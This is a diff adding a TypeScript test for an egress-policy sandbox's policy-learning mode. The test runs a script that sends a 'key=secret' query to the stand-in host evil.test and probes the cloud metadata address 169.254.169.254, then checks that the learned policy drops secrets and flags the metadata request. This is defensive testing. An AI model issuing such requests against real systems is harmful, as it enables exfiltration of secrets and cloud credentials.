@@ -5,6 +5,7 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { starters } from "../../src/cli/arguments/command-line.ts";
+import { parse } from "yaml";
 import { TestAuthority } from "../support/certs.ts";
 import { eventually } from "../support/eventually.ts";
 import { TlsOrigin } from "../support/tls-origin.ts";
@@ -155,6 +156,48 @@ network_policies:
     const ran = await run("--policy", policy, "--", ...script(code));
     expect(ran.code, ran.stderr).toBe(3);
     expect(ran.stderr).toMatch(/refused {2}evil\.test:443 {2}CONNECT {2}egress-policy/);
+  });
+
+  test("the smallest policy that lets it through is told, written, and lets it through", async () => {
+    const { port } = origin;
+    const url = (host: string, path: string) => `https://${host}:${port}${path}`;
+    const rules = "{ name: egress-policy, config: { allow: [origin.test] } }";
+    const fenced = await configFile("to-learn.yaml", `{ default: deny, plugins: [${rules}] }`);
+    const code = `
+      const ask = (url, init) => fetch(url, init).then((r) => r.arrayBuffer(), () => undefined);
+      await ask("${url(name, "/items/42?key=secret")}");
+      await ask("${url("evil.test", "/v1/chat?key=secret")}", { method: "POST", body: "x" });
+      await ask("http://169.254.169.254/latest");`;
+    const command = script(`(async () => {${code}})()`);
+    const learned = join(directory, "learned.yaml");
+    const ran = await run("--config", fenced, "--learn", learned, "--", ...command);
+    expect(ran.code, ran.stderr).toBe(0);
+    const text = await readFile(learned, "utf8");
+    expect(ran.stderr.endsWith(text), ran.stderr).toBe(true);
+    expect(text).not.toContain("secret");
+    expect(text).toContain("# not suggested: 169.254.169.254:80: cloud metadata");
+    const { version, network_policies: entries } = parse(text) as {
+      version: number;
+      network_policies: Record<string, { endpoints: object[] }>;
+    };
+    expect(version).toBe(1);
+    const found = Object.values(entries).flatMap(({ endpoints }) => endpoints);
+    expect(found).toMatchObject([
+      { host: "evil.test", port, rules: [{ allow: { method: "POST", path: "/v1/chat" } }] },
+      { host: name, port, rules: [{ allow: { method: "GET", path: "/items/*" } }] },
+    ]);
+    const held = await configFile(
+      "held.yaml",
+      `{ default: deny, plugins: [{ name: egress-policy, config: { policy_file: ${learned} } }] }`,
+    );
+    const again = await run("--config", held, "--", ...command);
+    // Let through, as far as the policy is asked: evil.test has no certificate.
+    expect(again.stderr).toMatch(/failed {2}evil\.test:\d+ +POST {2}upstream\.tls/);
+    expect(again.stderr).toMatch(
+      /reached {2}origin\.test:\d+ +GET\n {2}1 refused, 1 failed, 1 reached/,
+    );
+    expect((await run("--config", held, "--learn", learned, "--", "true")).code).toBe(2);
+    expect(await readFile(learned, "utf8")).toBe(text);
   });
 
   test("one that tries nothing is told as that", async () => {
